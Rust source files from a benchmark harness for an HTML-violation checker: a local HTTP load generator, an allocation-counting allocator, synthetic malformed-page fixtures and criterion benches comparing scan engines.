//! shed without the promised `Retry-After` header.
//!
//! ```text
//! cargo run --release -p hv-bench --example loadgen -- \
//!     --clients 4 --requests 200 --threads 4 --queue-depth 64
//! ```
//!
//! The output of the canonical 4×200 run is recorded in `BENCH_serve.json`.

use hv_bench::loadgen::{run, LoadgenOptions};
use hv_server::{serve, ServeOptions};
use std::time::Instant;

struct Args {
    addr: Option<String>,
    clients: usize,
    requests: usize,
    threads: usize,
    queue_depth: usize,
}

fn parse_args() -> Result<Args, String> {
    let mut args = Args { addr: None, clients: 4, requests: 200, threads: 4, queue_depth: 64 };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = |flag: &str| it.next().ok_or_else(|| format!("{flag} needs a value"));
        match flag.as_str() {
            "--addr" => args.addr = Some(value("--addr")?),
            "--clients" => {
                args.clients = value("--clients")?.parse().map_err(|e| format!("--clients: {e}"))?
            }
            "--requests" => {
                args.requests =
                    value("--requests")?.parse().map_err(|e| format!("--requests: {e}"))?
            }
            "--threads" => {
                args.threads = value("--threads")?.parse().map_err(|e| format!("--threads: {e}"))?
            }
            "--queue-depth" => {
                args.queue_depth =
                    value("--queue-depth")?.parse().map_err(|e| format!("--queue-depth: {e}"))?
            }
            other => return Err(format!("unknown flag {other:?}")),
        }
    }
    if args.clients == 0 || args.requests == 0 {
        return Err("--clients and --requests must be positive".into());
    }
    Ok(args)
}

fn main() {
    let args = match parse_args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("loadgen: {e}");
            eprintln!(
                "usage: loadgen [--addr HOST:PORT] [--clients N] [--requests N] \
                 [--threads N] [--queue-depth N]"
            );
            std::process::exit(2);
        }
    };

    // Own server unless pointed at an external one.
    let (addr, server) = match &args.addr {
        Some(addr) => (addr.clone(), None),
        None => {
            let server = serve(
                ServeOptions::new()
                    .addr("127.0.0.1:0")
                    .threads(args.threads)
                    .queue_depth(args.queue_depth),
            )
            .unwrap_or_else(|e| {
                eprintln!("loadgen: failed to start server: {e}");
                std::process::exit(2);
            });
            (server.addr().to_string(), Some(server))
        }
    };
    eprintln!(
        "loadgen: {} clients x {} requests -> http://{addr} \
         (server threads={}, queue depth={})",
        args.clients, args.requests, args.threads, args.queue_depth
    );

    let mut opts = LoadgenOptions::new(&addr);
    opts.clients = args.clients;
    opts.requests_per_client = args.requests;
    let started = Instant::now();
    let stats = run(&opts);
    let wall = started.elapsed();

    let ok = stats.all_answered();
    let summary = serde_json::json!({
        "clients": args.clients as u64,
        "requests_per_client": args.requests as u64,
        "server_threads": args.threads as u64,
        "queue_depth": args.queue_depth as u64,
        "wall_millis": wall.as_millis() as u64,
        "throughput_rps": (stats.sent as f64 / wall.as_secs_f64() * 10.0).round() / 10.0,
        "mean_latency_micros": (stats.latency.mean_nanos() / 1000.0).round(),
        "all_answered": ok,
        "stats": stats,
    });
    println!("{}", serde_json::to_string_pretty(&summary).expect("stats serialize"));

    if let Some(server) = server {
        server.shutdown();
    }
    if !ok {
        eprintln!(
            "loadgen: FAILED — dropped={} client_errors={} server_errors={} \
             shed={} (with retry-after: {})",
            stats.failed,
            stats.client_errors,
            stats.server_errors,
            stats.shed,
            stats.shed_with_retry_after
        );
        std::process::exit(1);
    }
    eprintln!(
        "loadgen: OK — {} served, {} shed (all with retry-after), 0 dropped",
        stats.ok, stats.shed
    );
}
