//! Allocation-counting global allocator for the benchmark harness.
//!
//! Every binary that links `hv_bench` (the criterion benches, the crate's
//! integration tests, the loadgen example) routes heap traffic through
//! [`CountingAlloc`], a thin shim over [`System`] that bumps one relaxed
//! atomic per allocation. The overhead is a few cycles per malloc — far
//! below criterion's noise floor — and in exchange the harness can report
//! *allocations per page*, the metric the atom-interning work optimizes.
//!
//! Counting is always on; [`count_allocations`] takes a delta around a
//! closure. Deltas are exact on a single thread and a lower bound when
//! other threads allocate concurrently (the benches measure on one thread).

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};

/// Number of calls to `alloc`/`alloc_zeroed`/`realloc` since process start.
static ALLOCS: AtomicU64 = AtomicU64::new(0);

/// A [`System`] allocator shim that counts allocation events.
pub struct CountingAlloc;

unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.alloc(layout)
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.alloc_zeroed(layout)
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        // A realloc is a fresh allocation from the allocator's point of
        // view (it may move); growth patterns show up here.
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.realloc(ptr, layout, new_size)
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }
}

/// Total allocation events so far.
pub fn allocation_count() -> u64 {
    ALLOCS.load(Ordering::Relaxed)
}

/// Run `f` and return its result plus the number of allocation events it
/// performed (single-threaded: exact).
pub fn count_allocations<R>(f: impl FnOnce() -> R) -> (R, u64) {
    let before = allocation_count();
    let out = f();
    (out, allocation_count() - before)
}
