//! Shared fixtures for the benchmark harness.

use hv_corpus::{Archive, CorpusConfig, DomainSnapshot, Snapshot};

/// A deterministic mid-size page corpus for parser/checker benches: a mix
/// of clean and violating pages straight from the calibrated generator.
pub fn sample_pages(n: usize) -> Vec<String> {
    let archive = Archive::new(CorpusConfig { seed: 0xBE7C, scale: 0.01 });
    let mut out = Vec::with_capacity(n);
    'outer: for d in archive.domains() {
        for snap in Snapshot::ALL {
            if let Some(cdx) = archive.cdx_lookup(d, snap) {
                if !cdx.snapshot.utf8_ok {
                    continue;
                }
                for e in cdx.pages.iter().take(4) {
                    let body = archive.fetch(e);
                    out.push(String::from_utf8(body.body.to_vec()).expect("utf8"));
                    if out.len() == n {
                        break 'outer;
                    }
                }
            }
        }
    }
    assert_eq!(out.len(), n, "corpus too small for requested sample");
    out
}

/// One representative violating page (several kinds at once).
pub fn violating_page() -> String {
    let archive = Archive::new(CorpusConfig { seed: 0xBE7C, scale: 0.01 });
    let ds = DomainSnapshot {
        domain_id: 1,
        domain_name: "bench.example".into(),
        rank: 1,
        snapshot: Snapshot::ALL[7],
        utf8_ok: true,
        page_count: 4,
        expressed: vec![
            hv_core::ViolationKind::FB2,
            hv_core::ViolationKind::DM3,
            hv_core::ViolationKind::HF1,
            hv_core::ViolationKind::HF4,
            hv_core::ViolationKind::DM1,
        ],
        benign_newline_url: true,
        uses_math: false,
        archetype: hv_corpus::Archetype::Shop,
    };
    let _ = &archive;
    hv_corpus::htmlgen::generate_page(0xBE7C, &ds, 0)
}

/// Total bytes in a page sample (for throughput reporting).
pub fn total_bytes(pages: &[String]) -> u64 {
    pages.iter().map(|p| p.len() as u64).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fixtures_build() {
        let pages = sample_pages(32);
        assert_eq!(pages.len(), 32);
        assert!(total_bytes(&pages) > 32 * 1000);
        let v = violating_page();
        assert!(hv_core::check_page(&v).has(hv_core::ViolationKind::FB2));
    }
}
