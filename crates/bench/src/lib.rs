//! Shared fixtures for the benchmark harness, plus the `loadgen` HTTP
//! client used to exercise `hva serve`.

pub mod alloc;
pub mod loadgen;

use hv_corpus::{Archive, CorpusConfig, DomainSnapshot, Snapshot};

/// Route every hv_bench binary (benches, tests, examples) through the
/// counting allocator so allocs/page is measurable anywhere in the harness.
#[global_allocator]
static GLOBAL: alloc::CountingAlloc = alloc::CountingAlloc;

/// A deterministic mid-size page corpus for parser/checker benches: a mix
/// of clean and violating pages straight from the calibrated generator.
pub fn sample_pages(n: usize) -> Vec<String> {
    let archive = Archive::new(CorpusConfig { seed: 0xBE7C, scale: 0.01 });
    let mut out = Vec::with_capacity(n);
    'outer: for d in archive.domains() {
        for snap in Snapshot::ALL {
            if let Some(cdx) = archive.cdx_lookup(d, snap) {
                if !cdx.snapshot.utf8_ok {
                    continue;
                }
                for e in cdx.pages.iter().take(4) {
                    let body = archive.fetch(e);
                    out.push(String::from_utf8(body.body.to_vec()).expect("utf8"));
                    if out.len() == n {
                        break 'outer;
                    }
                }
            }
        }
    }
    assert_eq!(out.len(), n, "corpus too small for requested sample");
    out
}

/// One representative violating page (several kinds at once).
pub fn violating_page() -> String {
    let archive = Archive::new(CorpusConfig { seed: 0xBE7C, scale: 0.01 });
    let ds = DomainSnapshot {
        domain_id: 1,
        domain_name: "bench.example".into(),
        rank: 1,
        snapshot: Snapshot::ALL[7],
        utf8_ok: true,
        page_count: 4,
        expressed: vec![
            hv_core::ViolationKind::FB2,
            hv_core::ViolationKind::DM3,
            hv_core::ViolationKind::HF1,
            hv_core::ViolationKind::HF4,
            hv_core::ViolationKind::DM1,
        ],
        benign_newline_url: true,
        uses_math: false,
        archetype: hv_corpus::Archetype::Shop,
    };
    let _ = &archive;
    hv_corpus::htmlgen::generate_page(0xBE7C, &ds, 0)
}

/// A large multi-finding page: `n` repeated fragments, each expressing
/// several violation kinds (FB2, FB1, DM3, HF4, …). Deterministic, so the
/// fused-vs-legacy numbers in `BENCH_battery.json` describe the same bytes
/// run to run. With `n = 400` the page is ~60 KiB with ~2000 findings —
/// large enough that dispatch strategy, not fixture noise, dominates.
pub fn dense_violating_page(n: usize) -> String {
    use std::fmt::Write;
    let mut out = String::from("<!DOCTYPE html><html><head><title>t</title></head><body>");
    for i in 0..n {
        let _ = write!(
            out,
            "<div id=d{i}><img src=\"a{i}.png\"onerror=\"x()\"><p/ class=c>\
             <a href=\"u{i}\"title=t>link</a><img src=q alt=a alt=b>\
             <table><tr><b>ad</b></tr><tr><td>c{i}</td></tr></table></div>"
        );
    }
    out.push_str("</body></html>");
    out
}

/// A large page with zero findings: `n` well-formed rows. The fused
/// engine's no-regression guard — on clean pages the per-item dispatch
/// must not cost more than twenty independent full scans did.
pub fn dense_clean_page(n: usize) -> String {
    use std::fmt::Write;
    let mut out = String::from(
        "<!DOCTYPE html><html lang=en><head><meta charset=utf-8>\
         <title>t</title></head><body>",
    );
    for i in 0..n {
        let _ = write!(
            out,
            "<div id=d{i} class=\"row\"><p>paragraph {i}</p><a href=\"/p/{i}\">go</a></div>"
        );
    }
    out.push_str("</body></html>");
    out
}

/// A large otherwise-clean page with exactly one violation (FB2, a missing
/// space before an event-handler attribute) buried in the middle: the
/// sparse-findings no-regression guard.
pub fn single_finding_page(n: usize) -> String {
    use std::fmt::Write;
    let mut out = String::from(
        "<!DOCTYPE html><html lang=en><head><meta charset=utf-8>\
         <title>t</title></head><body>",
    );
    for i in 0..n {
        if i == n / 2 {
            out.push_str(r#"<img src="x.png"onerror="go()">"#);
        }
        let _ = write!(
            out,
            "<div id=d{i} class=\"row\"><p>paragraph {i}</p><a href=\"/p/{i}\">go</a></div>"
        );
    }
    out.push_str("</body></html>");
    out
}

/// Total bytes in a page sample (for throughput reporting).
pub fn total_bytes(pages: &[String]) -> u64 {
    pages.iter().map(|p| p.len() as u64).sum()
}

/// Workload profile names for the `parse_throughput` bench, in report order.
/// Each stresses a different tokenizer regime: long inert text runs (the
/// batch fast path's best case), dense tag/attribute machinery, dense
/// character references, raw script data, and messy real-world attribute
/// syntax (unquoted/single-quoted values, duplicates, missing spaces —
/// the slow paths the atom pipeline targets).
pub const PROFILES: &[&str] =
    &["plain_text", "attribute_heavy", "entity_heavy", "script_heavy", "attribute_soup"];

const WORDS: &[&str] = &[
    "violation",
    "specification",
    "longitudinal",
    "archive",
    "tokenizer",
    "document",
    "measure",
    "parser",
    "snapshot",
    "domain",
    "analysis",
    "framework",
    "content",
    "security",
    "attribute",
];

/// A deterministic synthetic page of roughly `target` bytes exercising one
/// workload profile. Pure function of its arguments — no RNG, so before and
/// after numbers in BENCH_parse.json describe the same bytes.
pub fn profile_page(profile: &str, target: usize) -> String {
    use std::fmt::Write;
    let mut out = String::with_capacity(target + 256);
    out.push_str("<!DOCTYPE html><html><head><title>bench</title></head><body>\n");
    let mut i = 0usize;
    while out.len() < target {
        i += 1;
        match profile {
            "plain_text" => {
                out.push_str("<p>");
                for w in 0..40 {
                    out.push_str(WORDS[(i * 7 + w) % WORDS.len()]);
                    out.push(if w % 13 == 12 { ',' } else { ' ' });
                }
                out.push_str("</p>\n");
            }
            "attribute_heavy" => {
                let _ = writeln!(
                    out,
                    "<div id=\"s{i}\" class=\"row col item-{i}\" data-key=\"value-{i}\" \
                     data-rank=\"{i}\" title=\"section {i}\" role=\"region\" \
                     aria-label=\"row {i}\" style=\"margin:0;padding:{}px\">\
                     <a href=\"/page/{i}?a=1&amp;b=2\" rel=\"nofollow\" target=\"_blank\">x</a>\
                     </div>",
                    i % 16
                );
            }
            "entity_heavy" => {
                let _ = writeln!(
                    out,
                    "<p>&amp; &lt;tag&gt; &quot;q&quot; &copy; 2022 &ndash; {} \
                     &#65;&#x41;&#x1F600; fish &amp chips &hellip; &nbsp;&middot;&raquo;</p>",
                    WORDS[i % WORDS.len()]
                );
            }
            "script_heavy" => {
                out.push_str("<script>\n");
                for w in 0..12 {
                    let _ = writeln!(
                        out,
                        "  var {}_{i} = {{ index: {i}, label: '{} {w}', ok: {i} > {w} }};",
                        WORDS[w % WORDS.len()],
                        WORDS[(i + w) % WORDS.len()]
                    );
                }
                out.push_str("</script>\n");
            }
            "attribute_soup" => {
                // Deliberately sloppy markup: unquoted and single-quoted
                // values, duplicate attributes, missing inter-attribute
                // spaces, bare boolean attributes, uppercase names. This is
                // what archived pages actually look like, and it routes
                // through the AttributeName / unquoted-value states.
                let _ = writeln!(
                    out,
                    "<div ID=s{i} class=row data-key=value-{i} data-key=dup-{i} \
                     title='section {i}'role=region hidden DATA-RANK={i} \
                     style=margin:0 align=left><input type=text name=f{i} \
                     value=v{i} required><a href=/page/{i} target=_blank \
                     rel=nofollow>x</a></div>"
                );
            }
            other => panic!("unknown bench profile {other:?}"),
        }
    }
    out.push_str("</body></html>\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fixtures_build() {
        let pages = sample_pages(32);
        assert_eq!(pages.len(), 32);
        assert!(total_bytes(&pages) > 32 * 1000);
        let v = violating_page();
        assert!(hv_core::Battery::full().run_str(&v).has(hv_core::ViolationKind::FB2));
    }

    #[test]
    fn dense_fixtures_have_expected_finding_profiles() {
        let mut battery = hv_core::Battery::full();

        let dense = dense_violating_page(40);
        let report = battery.run_str(&dense);
        assert!(report.findings.len() >= 40, "dense page should find plenty");
        assert!(report.has(hv_core::ViolationKind::FB2));
        assert!(report.has(hv_core::ViolationKind::DM3));

        let clean = dense_clean_page(40);
        assert!(battery.run_str(&clean).findings.is_empty());

        let single = single_finding_page(40);
        let report = battery.run_str(&single);
        assert_eq!(report.findings.len(), 1);
        assert!(report.has(hv_core::ViolationKind::FB2));
    }
}
