//! A minimal concurrent HTTP/1.1 load generator for `hva serve`.
//!
//! Used three ways: by `benches/serve.rs` for round-trip latency numbers,
//! by `examples/loadgen.rs` as the CI smoke driver (and the source of
//! `BENCH_serve.json`), and by the root `tests/serve_api.rs` saturation
//! test. It is a *client* — it speaks just enough HTTP/1.1 to exercise the
//! server's wire surface: one `POST /v1/check` per request, `Content-Length`
//! framed, `Connection: close` (each request is a fresh connection, so the
//! acceptor's backpressure path — the whole point of the exercise — is in
//! play on every single request).
//!
//! Outcome taxonomy mirrors the ISSUE acceptance language: a request is
//! *dropped* only when no HTTP response came back at all (`failed`);
//! a 503 with `Retry-After` is *shed*, which is the server keeping its
//! promise under overload, not a drop.

use hv_core::DurationHistogram;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::mpsc;
use std::time::{Duration, Instant};

/// What one load run should do.
#[derive(Debug, Clone)]
pub struct LoadgenOptions {
    /// Server address, e.g. `127.0.0.1:8077`.
    pub addr: String,
    /// Number of concurrent client threads.
    pub clients: usize,
    /// Requests each client sends, sequentially.
    pub requests_per_client: usize,
    /// HTML payload sent as the raw `text/html` body of `POST /v1/check`.
    pub body: String,
    /// Per-connection read/write timeout.
    pub timeout: Duration,
}

impl LoadgenOptions {
    pub fn new(addr: impl Into<String>) -> Self {
        LoadgenOptions {
            addr: addr.into(),
            clients: 4,
            requests_per_client: 200,
            body: crate::violating_page(),
            timeout: Duration::from_secs(10),
        }
    }
}

/// Aggregated outcome of one load run. Addition-only, so per-client stats
/// merge associatively.
#[derive(Debug, Clone, Default, serde::Serialize)]
pub struct LoadStats {
    /// Requests attempted (`clients * requests_per_client`).
    pub sent: u64,
    /// 200 responses with a parseable `CheckResponse` body.
    pub ok: u64,
    /// 503 responses (load shed). `shed_with_retry_after` counts how many
    /// of them carried the promised `Retry-After` header.
    pub shed: u64,
    pub shed_with_retry_after: u64,
    /// Other 4xx responses (should be zero for well-formed requests).
    pub client_errors: u64,
    /// 5xx responses other than 503 (should be zero).
    pub server_errors: u64,
    /// No HTTP response at all: connect/write/read error or garbage bytes.
    /// These are the *dropped* requests the acceptance criterion forbids.
    pub failed: u64,
    /// Findings summed over all `ok` responses — a cheap end-to-end
    /// correctness pulse (0 on a violating payload means something lied).
    pub findings_total: u64,
    /// Round-trip latency (connect → full response read), log₂ buckets.
    pub latency: DurationHistogram,
}

impl LoadStats {
    pub fn merge(&mut self, other: &LoadStats) {
        self.sent += other.sent;
        self.ok += other.ok;
        self.shed += other.shed;
        self.shed_with_retry_after += other.shed_with_retry_after;
        self.client_errors += other.client_errors;
        self.server_errors += other.server_errors;
        self.failed += other.failed;
        self.findings_total += other.findings_total;
        self.latency.merge(&other.latency);
    }

    /// True when every well-formed request was answered: served or shed,
    /// never dropped, and every shed response carried `Retry-After`.
    pub fn all_answered(&self) -> bool {
        self.failed == 0
            && self.client_errors == 0
            && self.server_errors == 0
            && self.shed_with_retry_after == self.shed
            && self.ok + self.shed == self.sent
    }
}

/// One parsed HTTP response: status code, (lowercased-name, value) headers,
/// body bytes.
#[derive(Debug)]
pub struct HttpResponse {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl HttpResponse {
    pub fn header(&self, name: &str) -> Option<&str> {
        let name = name.to_ascii_lowercase();
        self.headers.iter().find(|(n, _)| *n == name).map(|(_, v)| v.as_str())
    }

    pub fn body_str(&self) -> &str {
        std::str::from_utf8(&self.body).unwrap_or("")
    }
}

/// Send one request over a fresh connection and read the full response.
/// `body` is sent verbatim with the given `content_type`.
pub fn request(
    addr: &str,
    method: &str,
    path: &str,
    content_type: &str,
    body: &[u8],
    timeout: Duration,
) -> std::io::Result<HttpResponse> {
    let mut stream = TcpStream::connect(addr)?;
    stream.set_read_timeout(Some(timeout))?;
    stream.set_write_timeout(Some(timeout))?;
    stream.set_nodelay(true)?;
    let head = format!(
        "{method} {path} HTTP/1.1\r\nhost: {addr}\r\nconnection: close\r\n\
         content-type: {content_type}\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes())?;
    stream.write_all(body)?;
    read_response(&mut stream)
}

/// `POST /v1/check` with a raw `text/html` body.
pub fn post_check(addr: &str, html: &str, timeout: Duration) -> std::io::Result<HttpResponse> {
    request(addr, "POST", "/v1/check", "text/html", html.as_bytes(), timeout)
}

/// Read and parse one `Connection: close`-framed HTTP response.
fn read_response(stream: &mut TcpStream) -> std::io::Result<HttpResponse> {
    let mut raw = Vec::with_capacity(4096);
    stream.read_to_end(&mut raw)?;
    parse_response(&raw)
        .ok_or_else(|| std::io::Error::new(std::io::ErrorKind::InvalidData, "malformed response"))
}

fn parse_response(raw: &[u8]) -> Option<HttpResponse> {
    let head_end = raw.windows(4).position(|w| w == b"\r\n\r\n")?;
    let head = std::str::from_utf8(&raw[..head_end]).ok()?;
    let mut lines = head.split("\r\n");
    let status_line = lines.next()?;
    let mut parts = status_line.splitn(3, ' ');
    let version = parts.next()?;
    if !version.starts_with("HTTP/1.") {
        return None;
    }
    let status: u16 = parts.next()?.parse().ok()?;
    let mut headers = Vec::new();
    for line in lines {
        let (name, value) = line.split_once(':')?;
        headers.push((name.trim().to_ascii_lowercase(), value.trim().to_string()));
    }
    let body_start = head_end + 4;
    let body = match headers.iter().find(|(n, _)| n == "content-length") {
        Some((_, v)) => {
            let len: usize = v.parse().ok()?;
            raw.get(body_start..body_start + len)?.to_vec()
        }
        None => raw[body_start..].to_vec(),
    };
    Some(HttpResponse { status, headers, body })
}

/// Count of `"kind"` occurrences in a `CheckResponse` body — a dependency-
/// free proxy for the findings count (each finding object has exactly one).
fn findings_in(body: &str) -> u64 {
    body.matches("\"kind\"").count() as u64
}

/// Run the load: `clients` threads, each sending `requests_per_client`
/// sequential `POST /v1/check` requests, every one on a fresh connection.
pub fn run(opts: &LoadgenOptions) -> LoadStats {
    let (tx, rx) = mpsc::channel::<LoadStats>();
    std::thread::scope(|scope| {
        for client in 0..opts.clients {
            let tx = tx.clone();
            let opts = &*opts;
            scope.spawn(move || {
                let mut stats = LoadStats::default();
                for _ in 0..opts.requests_per_client {
                    stats.sent += 1;
                    let started = Instant::now();
                    match post_check(&opts.addr, &opts.body, opts.timeout) {
                        Ok(resp) => {
                            stats.latency.record(started.elapsed().as_nanos() as u64);
                            match resp.status {
                                200 => {
                                    stats.ok += 1;
                                    stats.findings_total += findings_in(resp.body_str());
                                }
                                503 => {
                                    stats.shed += 1;
                                    if resp.header("retry-after").is_some() {
                                        stats.shed_with_retry_after += 1;
                                    }
                                }
                                400..=499 => stats.client_errors += 1,
                                _ => stats.server_errors += 1,
                            }
                        }
                        Err(_) => stats.failed += 1,
                    }
                }
                let _ = tx.send(stats);
                let _ = client;
            });
        }
    });
    drop(tx);
    let mut total = LoadStats::default();
    for stats in rx {
        total.merge(&stats);
    }
    total
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_a_minimal_response() {
        let raw = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\
                    content-length: 2\r\n\r\n{}";
        let resp = parse_response(raw).expect("parse");
        assert_eq!(resp.status, 200);
        assert_eq!(resp.header("Content-Type"), Some("application/json"));
        assert_eq!(resp.body_str(), "{}");
    }

    #[test]
    fn rejects_garbage() {
        assert!(parse_response(b"not http at all\r\n\r\n").is_none());
        assert!(parse_response(b"HTTP/1.1 200 OK\r\ncontent-length: 99\r\n\r\nshort").is_none());
    }

    #[test]
    fn stats_merge_and_answered() {
        let mut a =
            LoadStats { sent: 3, ok: 2, shed: 1, shed_with_retry_after: 1, ..Default::default() };
        let b = LoadStats { sent: 1, ok: 1, ..Default::default() };
        a.merge(&b);
        assert_eq!(a.sent, 4);
        assert!(a.all_answered());
        a.failed += 1;
        a.sent += 1;
        assert!(!a.all_answered());
    }

    #[test]
    fn end_to_end_against_a_live_server() {
        let server = hv_server::serve(
            hv_server::ServeOptions::new().addr("127.0.0.1:0").threads(2).queue_depth(16),
        )
        .expect("server starts");
        let addr = server.addr().to_string();
        let mut opts = LoadgenOptions::new(&addr);
        opts.clients = 2;
        opts.requests_per_client = 5;
        let stats = run(&opts);
        server.shutdown();
        assert_eq!(stats.sent, 10);
        assert!(stats.all_answered(), "unexpected outcomes: {stats:?}");
        assert!(stats.ok >= 1);
        assert!(stats.findings_total >= stats.ok, "violating payload must yield findings");
        assert_eq!(stats.latency.count, stats.ok + stats.shed);
    }
}
