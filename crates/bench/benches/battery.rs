//! Battery reuse vs per-page construction: the scan engine's hot path.
//!
//! `reused_battery` is what the page-granular engine does (one
//! [`Battery`] per worker, findings buffer recycled, report borrowed);
//! `fresh_per_page` is the old per-page path (`checkers::check_context`):
//! construct the rule set, run it, and return an owned `PageReport` —
//! cloning every finding's evidence string. The reuse path should be
//! meaningfully faster.

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use hv_bench::{sample_pages, total_bytes};
use hv_core::context::CheckContext;
use hv_core::Battery;

fn bench_battery(c: &mut Criterion) {
    let pages = sample_pages(64);
    let contexts: Vec<CheckContext<'_>> = pages.iter().map(|p| CheckContext::new(p)).collect();

    let mut g = c.benchmark_group("battery");
    g.throughput(Throughput::Bytes(total_bytes(&pages)));

    g.bench_function("reused_battery", |b| {
        let mut battery = Battery::full();
        b.iter(|| {
            let mut findings = 0usize;
            for cx in &contexts {
                findings += battery.run_ref(black_box(cx)).findings.len();
            }
            black_box(findings)
        })
    });

    g.bench_function("fresh_per_page", |b| {
        b.iter(|| {
            let mut findings = 0usize;
            for cx in &contexts {
                findings += hv_core::checkers::check_context(black_box(cx)).findings.len();
            }
            black_box(findings)
        })
    });

    // Finding-heavy worst case: every page violates several kinds, so the
    // owned-report path pays maximal per-finding clone cost.
    let violating = hv_bench::violating_page();
    let vcx = CheckContext::new(&violating);
    g.bench_function("reused_battery_violating", |b| {
        let mut battery = Battery::full();
        b.iter(|| black_box(battery.run_ref(black_box(&vcx)).findings.len()))
    });
    g.bench_function("fresh_per_page_violating", |b| {
        b.iter(|| black_box(hv_core::checkers::check_context(black_box(&vcx)).findings.len()))
    });

    g.bench_function("instrumented_reused_battery", |b| {
        let mut battery = Battery::full();
        let mut stats = battery.new_stats();
        b.iter(|| {
            let mut findings = 0usize;
            for cx in &contexts {
                findings += battery.run_instrumented(black_box(cx), &mut stats).findings.len();
            }
            black_box(findings)
        })
    });

    g.finish();
}

criterion_group!(benches, bench_battery);
criterion_main!(benches);
