//! Battery reuse vs per-page construction, and the fused dispatch engine
//! vs the pre-fusion twenty-scan reference: the scan engine's hot path.
//!
//! `reused_battery` is what the page-granular engine does (one
//! [`Battery`] per worker, findings buffer recycled, report borrowed);
//! `fresh_per_page` is the old per-page path (`checkers::check_context`):
//! construct the rule set, run it, and return an owned `PageReport` —
//! cloning every finding's evidence string. The reuse path should be
//! meaningfully faster.
//!
//! The `fused_*` / `legacy_*` pairs compare the fused single-pass engine
//! against `checkers::legacy` (each rule scanning the full context on its
//! own) on the same reused-buffer footing, across a multi-finding page, a
//! clean page, and a single-finding page. Results are recorded in
//! `BENCH_battery.json`.
//!
//! The `fresh_per_page*` series intentionally call the deprecated
//! `checkers::check_context` shim — that one-shot path *is* the baseline
//! being compared against.
#![allow(deprecated)]

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use hv_bench::{sample_pages, total_bytes};
use hv_core::checkers::legacy;
use hv_core::context::CheckContext;
use hv_core::{Battery, PageReport};

fn bench_battery(c: &mut Criterion) {
    let pages = sample_pages(64);
    let contexts: Vec<CheckContext<'_>> = pages.iter().map(|p| CheckContext::new(p)).collect();

    let mut g = c.benchmark_group("battery");
    g.throughput(Throughput::Bytes(total_bytes(&pages)));

    g.bench_function("reused_battery", |b| {
        let mut battery = Battery::full();
        b.iter(|| {
            let mut findings = 0usize;
            for cx in &contexts {
                findings += battery.run_ref(black_box(cx)).findings.len();
            }
            black_box(findings)
        })
    });

    g.bench_function("fresh_per_page", |b| {
        b.iter(|| {
            let mut findings = 0usize;
            for cx in &contexts {
                findings += hv_core::checkers::check_context(black_box(cx)).findings.len();
            }
            black_box(findings)
        })
    });

    // Finding-heavy worst case: every page violates several kinds, so the
    // owned-report path pays maximal per-finding clone cost.
    let violating = hv_bench::violating_page();
    let vcx = CheckContext::new(&violating);
    g.bench_function("reused_battery_violating", |b| {
        let mut battery = Battery::full();
        b.iter(|| black_box(battery.run_ref(black_box(&vcx)).findings.len()))
    });
    g.bench_function("fresh_per_page_violating", |b| {
        b.iter(|| black_box(hv_core::checkers::check_context(black_box(&vcx)).findings.len()))
    });

    // Fused engine vs the pre-fusion per-rule scans, both on reused
    // buffers so the delta is pure dispatch strategy. Four page shapes:
    // the small corpus violating page, a large dense multi-finding page
    // (the fusion's target), and large clean / single-finding pages (the
    // no-regression guards). The large fixtures (tens of KiB) are the
    // meaningful signal; the small one is sub-10µs and noise-prone.
    let dense = hv_bench::dense_violating_page(400);
    let dcx = CheckContext::new(&dense);
    let clean = hv_bench::dense_clean_page(800);
    let ccx = CheckContext::new(&clean);
    let single = hv_bench::single_finding_page(800);
    let scx = CheckContext::new(&single);
    for (name, cx) in
        [("violating", &vcx), ("dense_violating", &dcx), ("clean", &ccx), ("single_finding", &scx)]
    {
        g.bench_function(&format!("fused_{name}"), |b| {
            let mut battery = Battery::full();
            b.iter(|| black_box(battery.run_ref(black_box(cx)).findings.len()))
        });
        g.bench_function(&format!("legacy_{name}"), |b| {
            let mut report = PageReport::default();
            b.iter(|| {
                legacy::run_into(black_box(cx), &mut report);
                black_box(report.findings.len())
            })
        });
    }

    g.bench_function("instrumented_reused_battery", |b| {
        let mut battery = Battery::full();
        let mut stats = battery.new_stats();
        b.iter(|| {
            let mut findings = 0usize;
            for cx in &contexts {
                findings += battery.run_instrumented(black_box(cx), &mut stats).findings.len();
            }
            black_box(findings)
        })
    });

    g.finish();
}

criterion_group!(benches, bench_battery);
criterion_main!(benches);
