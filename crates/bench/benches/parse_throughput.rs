//! Parser throughput in MB/s over the synthetic workload profiles.
//!
//! Each profile isolates one tokenizer regime (see [`hv_bench::PROFILES`]):
//! `plain_text` is dominated by inert character runs (the batched
//! input-stream fast path's best case), `attribute_heavy` by the tag and
//! attribute state machinery, `entity_heavy` by character-reference
//! resolution, and `script_heavy` by raw script data. The MB/s numbers for
//! this bench are tracked across PRs in `BENCH_parse.json` at the repo root.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

/// ~256 KiB per profile page: large enough that per-parse setup noise
/// vanishes, small enough that every profile fits the measure budget.
const PAGE_BYTES: usize = 256 * 1024;

fn bench_parse_throughput(c: &mut Criterion) {
    let mut g = c.benchmark_group("parse_throughput");
    for &profile in hv_bench::PROFILES {
        let page = hv_bench::profile_page(profile, PAGE_BYTES);
        g.throughput(Throughput::Bytes(page.len() as u64));
